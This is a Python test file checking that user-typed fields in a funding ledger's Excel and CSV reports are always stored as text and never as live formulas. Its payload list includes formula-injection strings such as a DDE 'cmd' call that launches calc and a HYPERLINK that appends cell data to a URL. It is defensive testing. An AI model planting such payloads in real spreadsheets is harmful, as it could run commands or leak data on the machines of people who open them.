"""Formula injection (issue 9 part 4): whatever a user typed reaches a workbook as text, never as a formula.

Every user-text field that a report prints — the platform's name, code, operator (申请单位), 负责人/电话,
联系人/手机, the claim's 中试平台文件、文号, both review opinions, the notice's title, the fund issue's
document number, a payment voucher (in the journal's descriptions), an evaluation's note — is
set to hostile or arbitrary text inside a transaction that is rolled back, every report is written, and
each workbook is read back at the XML level (the sheet parts of the unzipped package):

* the formulas (``<f>``) are exactly those the reports build with harmless text — the reconciliation's
  ``SUMIFS`` and checks, the evaluation sheet's total — so no user text is in any formula, and the
  report's own formulas are still formulas;
* each value is shown as typed (after the one normalisation text gets on its way into a cell: CRLF and CR
  become LF, characters XML 1.0 cannot hold are dropped) in a string cell (``t="inlineStr"``), and a value
  that begins like a formula has the quote-prefix style, so that editing the cell in a spreadsheet keeps it
  text.
"""

from __future__ import annotations

import re
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from ledger import services as S
from ledger.models import Claim, FundIssue, Notice, Platform, Review
from reports import annex3, evaluation_sheet, fund_issue, notice_list, reconciliation, trial_balance
from reports.xlsx import Formula, PlainSheet, csv_field, new_write_only, save, sheet_for
from tests.ledger.world import pay_confirmed
from tests.reports.world import World

ATTACKS = [
    '=HYPERLINK("http://x"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=2+2",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1\r\n+2",
    "#N/A",
    "＝1+1",
    " =SUM(A1:A9) ",
]
LEADS = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")  # what a spreadsheet would take for a formula
M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
R_ID = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
PKG = "{http://schemas.openxmlformats.org/package/2006/relationships}"
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def shown(text: str) -> str:
    """What a cell shows of typed text: line ends as LF, characters XML 1.0 cannot hold dropped."""
    return _NOT_XML.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


# ---------------------------------------------------------------- reading a workbook's XML


@dataclass(frozen=True)
class XCell:
    sheet: int  # the sheet's position in the workbook
    ref: str
    type: str | None  # the t attribute
    quoted: bool  # its style has quotePrefix="1"
    formula: str | None
    text: str | None  # a string cell's text


def read_cells(path: Path) -> list[XCell]:
    with zipfile.ZipFile(path) as z:
        rels = {r.get("Id"): r.get("Target", "") for r in
                ET.fromstring(z.read("xl/_rels/workbook.xml.rels")).iter(f"{PKG}Relationship")}
        parts = [rels[s.get(R_ID)] for s in ET.fromstring(z.read("xl/workbook.xml")).iter(f"{M}sheet")]
        styles = ET.fromstring(z.read("xl/styles.xml"))
        xfs = styles.find(f"{M}cellXfs")
        quoted = [xf.get("quotePrefix") in ("1", "true") for xf in (xfs if xfs is not None else [])]
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            shared = ["".join(t.text or "" for t in si.iter(f"{M}t"))
                      for si in ET.fromstring(z.read("xl/sharedStrings.xml")).iter(f"{M}si")]
        cells = []
        for k, part in enumerate(parts):
            name = part.lstrip("/") if part.startswith("/") else "xl/" + part
            for c in ET.fromstring(z.read(name)).iter(f"{M}c"):
                t, f = c.get("t"), c.find(f"{M}f")
                text = None
                if t == "inlineStr":
                    text = "".join(x.text or "" for x in c.iter(f"{M}t"))
                elif t == "s":
                    v = c.find(f"{M}v")
                    text = shared[int(v.text or 0)] if v is not None else None
                style = int(c.get("s", "0"))
                cells.append(XCell(k, c.get("r", ""), t, style < len(quoted) and quoted[style],
                                   f.text if f is not None else None, text))
    return cells


# ---------------------------------------------------------------- the fields and the reports

FIELDS = ("platform_name", "operator", "head_person", "head_phone", "contact_person", "contact_mobile",
          "platform_code", "platform_document", "econ_opinion", "finance_opinion", "notice_title",
          "fund_document", "voucher", "evaluation_note")
# report → (fields shown alone in a cell, fields shown inside a longer text)
COLUMN = {"platform_name": Platform.name, "operator": Platform.operator, "head_person": Platform.head_person,
          "head_phone": Platform.head_phone, "contact_person": Platform.contact_person,
          "contact_mobile": Platform.contact_mobile, "platform_code": Platform.code,
          "platform_document": Claim.platform_document, "notice_title": Notice.title,
          "fund_document": FundIssue.document_number}


def fit(field: str, text: str) -> str:
    """``text`` cut to the length of its column (PostgreSQL refuses a longer one; the service checks it)."""
    col = COLUMN.get(field)
    length = getattr(col.type, "length", None) if col is not None else None
    return text[:length] if length else text


SHOWN: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "annex3": (("platform_name", "operator", "head_person", "head_phone", "contact_person", "contact_mobile",
                "platform_document", "econ_opinion", "finance_opinion"), ()),
    "annex3_batch": (("platform_name", "operator", "platform_document", "econ_opinion", "finance_opinion"), ()),
    "notice_list": (("platform_name", "operator", "notice_title"), ()),
    "fund_issue": (("platform_name", "operator", "fund_document"), ()),
    "reconciliation": (("platform_code", "platform_name"), ("voucher",)),
    "reconciliation_all": (("platform_code", "platform_name"), ("voucher",)),
    "trial_balance": ((), ()),
    "evaluation": ((), ("platform_name", "platform_code", "operator", "evaluation_note")),
}


def write_all(s: Any, world: World, text: dict[str, str], out: Path) -> dict[str, Path]:
    """Set every field to ``text`` (inside the session's transaction) and write every report."""
    p1 = s.execute(select(Platform).where(Platform.code == "P1")).scalar_one()
    s.execute(update(Platform).where(Platform.id == p1.id).values(
        name=text["platform_name"], operator=text["operator"], head_person=text["head_person"],
        head_phone=text["head_phone"], contact_person=text["contact_person"],
        contact_mobile=text["contact_mobile"], code=text["platform_code"]))
    claim = s.execute(select(Claim).where(Claim.number == world.n1)).scalar_one()
    s.execute(update(Claim).where(Claim.id == claim.id).values(platform_document=text["platform_document"]))
    for department in ("economic", "finance"):
        s.execute(update(Review).where(Review.claim_id == claim.id, Review.department == department).values(
            opinion=text["econ_opinion" if department == "economic" else "finance_opinion"]))
    s.execute(update(Notice).where(Notice.id == world.notice).values(title=text["notice_title"]))
    s.execute(update(FundIssue).where(FundIssue.claim_id == claim.id).values(document_number=text["fund_document"]))
    pay_confirmed(s, claim_number=world.n1, payer="330402", voucher_number=text["voucher"], on=date(2026, 7, 1),
          amount_fen=1)
    S.add_platform_event(s, text["platform_code"], kind="evaluation", on=date(2026, 3, 1), grade="合格",
                         scheme="jiaxing", year=2025, note=text["evaluation_note"])
    s.expire_all()
    code = text["platform_code"]
    return {
        "annex3": annex3.write_claim(s, world.n1, out / "annex3.xlsx"),
        "annex3_batch": annex3.write_batch(s, "330402", out / "batch.xlsx"),
        "notice_list": notice_list.write(s, world.notice, out / "notice.xlsx"),
        "fund_issue": fund_issue.write(s, "330402", out / "funds.xlsx"),
        "reconciliation": reconciliation.write(s, out / "rec.xlsx"),
        "reconciliation_all": reconciliation.write(s, out / "rec-all.xlsx", all_postings=True, rows_per_sheet=40),
        "trial_balance": trial_balance.write(s, date(2026, 1, 1), date(2027, 12, 31), out / "tb.xlsx"),
        "evaluation": evaluation_sheet.write(s, code, 2025, out / "eval.xlsx"),
    }


def formulas(cells: list[XCell]) -> set[tuple[int, str, str]]:
    return {(c.sheet, c.ref, c.formula) for c in cells if c.formula is not None}


def run(db: Any, world: World, text: dict[str, str], out: Path) -> dict[str, list[XCell]]:
    out.mkdir(parents=True, exist_ok=True)
    with db.sessions() as s:
        try:
            return {name: read_cells(path) for name, path in write_all(s, world, text, out).items()}
        finally:
            s.rollback()


HARMLESS = {f: "正常" + f[:6] for f in FIELDS}


@pytest.fixture
def baseline(db: Any, world: World, tmp_path: Path) -> dict[str, set[tuple[int, str, str]]]:
    """The formulas each report builds with harmless text (the reports' own formulas)."""
    found = {name: formulas(cells) for name, cells in run(db, world, HARMLESS, tmp_path / "base").items()}
    # the report's own formulas are formulas: the reconciliation's SUMIFS and checks, the evaluation's total
    assert any("SUMIFS(" in f for _, _, f in found["reconciliation"])
    assert any(f.startswith("IF(AND(") for _, _, f in found["reconciliation"])
    assert {f for _, _, f in found["evaluation"]} and all(f.startswith("SUM(") for _, _, f in found["evaluation"])
    assert not found["annex3"] and not found["notice_list"] and not found["fund_issue"]
    return found


def check(books: dict[str, list[XCell]], text: dict[str, str], base: dict[str, set[tuple[int, str, str]]]) -> None:
    for name, cells in books.items():
        assert formulas(cells) == base[name], f"{name}: formulas differ from the report's own"
        assert not [c for c in cells if c.type in ("e", "str")], name
        strings = [c for c in cells if c.type in ("inlineStr", "s")]
        alone, inside = SHOWN[name]
        for field in alone:
            value = shown(text[field])
            if not value:
                continue
            hits = [c for c in strings if c.text == value]
            assert hits, f"{name}: {field} {value!r} not shown as typed"
            if value.startswith(LEADS):
                assert all(c.quoted for c in hits), f"{name}: {field} {value!r} without the quote prefix"
        for field in inside:
            value = shown(text[field])
            if field == "evaluation_note" and value.strip().startswith("{"):
                continue  # a JSON note holds scores, not a remark
            assert any(value in (c.text or "") for c in strings), f"{name}: {field} {value!r} not shown"


def test_attack_strings_stay_text_in_every_report(db: Any, world: World, tmp_path: Path,
                                                   baseline: dict[str, set[tuple[int, str, str]]]) -> None:
    for k, attack in enumerate(ATTACKS):
        text = {f: fit(f, attack) for f in FIELDS}
        text["platform_code"] = fit("platform_code", attack + "P")
        check(run(db, world, text, tmp_path / f"attack{k}"), text, baseline)


def _field_text(field: str) -> st.SearchStrategy[str]:
    size = 30
    typed = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=size)
    return st.one_of(st.sampled_from([a[:size] for a in ATTACKS]), typed,
                     st.builds(lambda lead, rest: (lead + rest)[:size], st.sampled_from(LEADS), typed))


def test_arbitrary_text_stays_text_in_every_report(db: Any, world: World, tmp_path: Path,
                                                   baseline: dict[str, set[tuple[int, str, str]]]) -> None:
    counter = iter(range(10**6))

    @settings(max_examples=6, deadline=None, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(st.fixed_dictionaries({f: _field_text(f) for f in FIELDS}).filter(
        lambda t: t["platform_code"].strip() not in ("P2", "") and t["voucher"].strip() != ""))
    def prop(text: dict[str, str]) -> None:
        check(run(db, world, text, tmp_path / str(next(counter))), text, baseline)

    prop()


# ---------------------------------------------------------------- the streamed sheets and CSV


@pytest.mark.parametrize("plain", [False, True])
def test_streamed_text_columns_stay_text_and_formula_columns_take_only_formulas(tmp_path: Path, plain: bool) -> None:
    """A streamed sheet (the reconciliation's listings) writes text as text, quote-prefixed when it begins
    like a formula, and refuses a ``str`` in a formula column."""
    wb = new_write_only()
    if plain:
        from openpyxl import Workbook

        wb = Workbook()
    ws = sheet_for(wb, "分录", [("text", None), ("formula", None), ("int", None)], plain=plain)
    assert isinstance(ws, PlainSheet) == plain
    for k, attack in enumerate(ATTACKS):
        ws.add([attack, Formula(f"C{k + 1}*2"), k])
    with pytest.raises(TypeError):
        ws.add(["x", "=C1*2", 1])
    cells = read_cells(save(wb, tmp_path / "s.xlsx"))
    by_ref = {c.ref: c for c in cells}
    for k, attack in enumerate(ATTACKS, 1):
        a = by_ref[f"A{k}"]
        assert (a.type, a.formula, a.text) == ("inlineStr", None, shown(attack))
        assert a.quoted == shown(attack).startswith(LEADS), attack
        assert by_ref[f"B{k}"].formula == f"C{k}*2"
    assert len(formulas(cells)) == len(ATTACKS)


def test_a_formula_is_written_without_its_equals_sign() -> None:
    with pytest.raises(ValueError):
        Formula("=SUM(A1:A2)")


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_fields_that_look_like_formulas_get_a_quote(attack: str) -> None:
    assert csv_field(attack) == ("'" + attack if attack.startswith((*LEADS, "\r")) else attack)
    assert csv_field("嘉兴市新材料中试平台") == "嘉兴市新材料中试平台" and csv_field(None) == ""

